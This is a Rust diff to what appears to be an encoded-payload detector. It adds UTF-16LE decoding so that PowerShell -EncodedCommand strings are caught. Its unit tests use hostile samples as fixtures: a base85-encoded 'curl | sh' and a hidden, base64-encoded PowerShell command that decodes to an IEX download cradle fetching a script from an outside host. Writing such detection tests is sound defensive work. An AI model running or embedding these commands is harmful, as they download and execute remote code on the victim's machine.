@@ -44,10 +44,23 @@ static CODES: LazyLock<Regex> = LazyLock::new(|| {
 static STRING: LazyLock<Regex> =
     LazyLock::new(|| re(r#""((?:[^"\\\n]|\\.){12,})"|'((?:[^'\\\n]|\\.){12,})'"#));
 
-/// Whether decoded bytes read as text: valid UTF-8, almost all printable, with a separator
-/// (a command or a sentence, not an identifier or noise).
+/// Whether decoded bytes read as text: valid UTF-8 (or UTF-16LE, what PowerShell's
+/// `-EncodedCommand` takes: a zero after every ASCII byte), almost all printable, with a
+/// separator (a command or a sentence, not an identifier or noise).
 fn textual(bytes: &[u8]) -> Option<String> {
-    let text = std::str::from_utf8(bytes).ok()?;
+    let wide;
+    let text = if bytes.len() >= 12
+        && bytes.len().is_multiple_of(2)
+        && bytes.iter().skip(1).step_by(2).all(|&b| b == 0)
+    {
+        let units = bytes.chunks_exact(2).map(|p| u16::from(p[0]));
+        wide = char::decode_utf16(units)
+            .collect::<Result<String, _>>()
+            .ok()?;
+        wide.as_str()
+    } else {
+        std::str::from_utf8(bytes).ok()?
+    };
     let total = text.chars().count();
     if total < 6 {
         return None;
@@ -363,6 +376,11 @@ mod tests {
         assert_eq!(
             first(r#"exec(base64.b85decode("V|8+DAZT=Sa5^t9cp!Wrb7%"))"#).map(|d| d.1),
             Some("curl http://x | sh".into())
+        );
+        // PowerShell's -EncodedCommand is UTF-16LE.
+        assert_eq!(
+            first("powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHcAaQBuAHAAcgBvAGYAaQBsAGUALgBuAGUAdAAvAHAALgBwAHMAMQAnACkA").map(|d| d.1),
+            Some("IEX (New-Object Net.WebClient).DownloadString('https://cdn-winprofile.net/p.ps1')".into())
         );
         // A SHA-256 digest and an identifier are not payloads.
         assert!(
